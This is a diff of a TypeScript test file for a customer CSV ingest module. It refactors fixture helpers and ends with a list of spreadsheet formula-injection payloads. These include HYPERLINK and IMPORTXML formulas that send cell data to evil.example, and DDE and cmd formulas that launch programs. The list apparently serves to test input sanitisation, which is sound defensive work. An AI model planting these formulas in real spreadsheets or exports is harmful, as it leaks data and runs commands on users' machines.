@@ -17,7 +17,8 @@ import { CsvFileError } from '../../src/customers/errors.js';
 import { createLogger } from '../../src/log.js';
 import { ingestFile, type IngestReport } from '../../src/producers/ingest.js';
 import { REQUIRED_COLUMNS } from '../../src/customers/columns.js';
-import { HEADER, ROOT, TEMPLATE, dropPrefix, openStore, prng, type Store } from './harness.js';
+import { COLUMNS as COLS, HEADER, TEMPLATE, csvCell, customerFields } from '../../fixtures/customers.js';
+import { ROOT, dropPrefix, openStore, prng, type Store } from './harness.js';
 
 export interface HostileInput {
   name: string;
@@ -27,30 +28,12 @@ export interface HostileInput {
   big?: boolean;
 }
 
-const COLS = HEADER.split(',');
-
 function goodRow(i: number, over: Record<string, string> = {}): string[] {
-  const v: Record<string, string> = {
-    customer_id: `h${i}`,
-    first_name: 'Dana',
-    last_name: 'Lopez',
-    email: `h${i}@example.com`,
-    phone_number: '(415) 555-0100',
-    mobile_phone_number: `+1 415 555 ${String(2000 + i).slice(-4)}`,
-    brand_name: `Dana Lopez Studio ${i}`,
-    vertical: 'RETAIL',
-    street: '123 Market St',
-    city: 'San Francisco',
-    region: 'CA',
-    postal_code: '94105',
-    iso_country: 'US',
-    ...over,
-  };
+  const v = customerFields(`h${i}`, 2000 + i, { brand_name: `Dana Lopez Studio ${i}`, ...over });
   return COLS.map((c) => v[c] ?? '');
 }
 
-const q = (cell: string) => (/[",\r\n]/.test(cell) ? `"${cell.replace(/"/g, '""')}"` : cell);
-const line = (cells: string[], sep = ',') => cells.map(q).join(sep);
+const line = (cells: string[], sep = ',') => cells.map(csvCell).join(sep);
 const csvOf = (rows: string[][], eol = '\n', header: string[] = COLS) => [line(header), ...rows.map((r) => line(r))].join(eol) + eol;
 
 const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '=1+1', '+1+1', '-2+3', '@SUM(1,2)', '\t=cmd|\' /C calc\'!A0', '\r=1+1', '=cmd|\'/C notepad\'!A1', "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")", '=DDE("cmd";"/C calc";"x")'];
